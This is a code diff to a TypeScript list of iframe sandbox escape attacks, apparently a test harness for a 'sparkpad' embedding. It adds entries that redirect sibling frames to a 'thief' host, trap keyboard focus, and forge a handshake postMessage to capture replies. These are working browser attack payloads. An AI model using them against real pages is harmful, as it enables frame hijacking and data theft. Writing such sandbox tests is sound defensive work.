@@ -1,6 +1,6 @@
 import type { Attack } from './attack.ts'
 
-/** Attacks that go somewhere: each has a frame of its own, for what it does to itself ends it. */
+/** Attacks that go somewhere, or get in the way of what comes next: each has a frame of its own. */
 export const leaving: readonly Attack[] = [
   {
     name: 'top-location',
@@ -121,5 +121,24 @@ export const leaving: readonly Attack[] = [
     tries: 'writes its document anew',
     shown: true,
     code: `ran(name, 'now'); document.open(); document.write('<img src="' + thief + '/' + name + '">'); document.close(); await pause(300)`,
+  },
+  {
+    name: 'sibling-location',
+    tries: 'sends another frame of the page elsewhere',
+    shown: true,
+    code: `for (let n = 0; n < 20; n += 1) { for (let at = 0; at < parent.frames.length; at += 1) if (parent.frames[at] !== window) parent.frames[at].location = thief + '/' + name; await pause(50) }`,
+  },
+  {
+    name: 'focus-theft',
+    tries: 'takes the keyboard',
+    shown: true,
+    code: `ran(name, 'now'); const inner = document.createElement('iframe'); inner.srcdoc = '<input id="trap"><script>setInterval(() => { window.focus(); trap.focus() }, 10)<' + '/script>'; document.body.append(inner); await pause(600)`,
+  },
+  // the last one: where it gets through, the build after it is its own
+  {
+    name: 'forged-hello',
+    tries: 'says hello in the name of the next frame',
+    shown: true,
+    code: `const hello = { type: 'sparkpad:hello', nonce: 'a guess' }; const inner = document.createElement('iframe'); inner.srcdoc = '<script>let n = 0; setInterval(() => { if ((n += 1) < 60) top.postMessage(' + JSON.stringify(hello) + ', "*", [new MessageChannel().port2]) }, 15)<' + '/script>'; document.body.append(inner); for (let n = 0; n < 90; n += 1) { const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => loot(name, data.type); parent.postMessage(hello, '*', [port2]); await pause(10) }`,
   },
 ]
